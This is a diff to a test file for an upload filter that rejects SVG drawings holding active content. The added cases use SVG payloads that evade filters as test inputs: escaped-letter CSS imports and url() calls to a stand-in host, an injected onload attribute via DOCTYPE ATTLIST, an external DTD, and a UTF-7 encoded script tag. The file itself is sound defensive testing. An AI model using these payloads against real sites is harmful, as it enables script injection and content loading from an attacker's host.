@@ -99,6 +99,9 @@ describe("what is taken in", () => {
 
   it.each([
     ["a script", "<script>alert(1)</script>"],
+    ["an import with an escaped letter", '<style>@\\69mport "http://evil.example/x"</style>'],
+    ["an address with an escaped letter", "<style>rect{fill:u\\72l(http://evil.example/x)}</style>"],
+    ["a set of pictures from elsewhere", "<rect style=\"fill:image-set('http://evil.example/x' 1x)\"/>"],
     ["a script under another prefix", "<s:script xmlns:s='http://www.w3.org/2000/svg'>1</s:script>"],
     ["an event", "<rect onload = 'x()'/>"],
     ["a link that runs", "<a href='&#106;ava&#115;cript:x()'><path/></a>"],
@@ -109,7 +112,26 @@ describe("what is taken in", () => {
     ["a foreign page", "<foreignObject><body/></foreignObject>"],
   ])("is refused as a logo when it holds %s", async (_, inside) => {
     const drawing = `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`;
-    await expect(put(drawing, "logo.svg")).rejects.toThrow("The logo contains active content and was not saved.");
+    await expect(put(drawing, "logo.svg")).rejects.toThrow("This drawing contains active content and was not saved.");
+  });
+  it.each([
+    [
+      "an attribute by default",
+      '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg xmlns="http://www.w3.org/2000/svg"/>',
+    ],
+    [
+      "a document type from elsewhere",
+      '<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>',
+    ],
+    ["another encoding", '<?xml version="1.0" encoding="UTF-7"?><svg xmlns="http://www.w3.org/2000/svg">+ADw-script+AD4-</svg>'],
+  ])("refuses a drawing with %s", async (_, drawing) => {
+    await expect(put(drawing, "logo.svg")).rejects.toThrow("This drawing contains active content and was not saved.");
+  });
+  it("looks once at a text of a thousand comments", async () => {
+    const began = performance.now();
+    expect((await put(`${"<!---->".repeat(1000)}x`, "notes.txt")).mediaType).toBe("text/plain");
+    expect((await put(`${"<!DOCTYPE a []".repeat(500)}x`, "notes.txt")).mediaType).toBe("text/plain");
+    expect(performance.now() - began).toBeLessThan(2000);
   });
 });
 
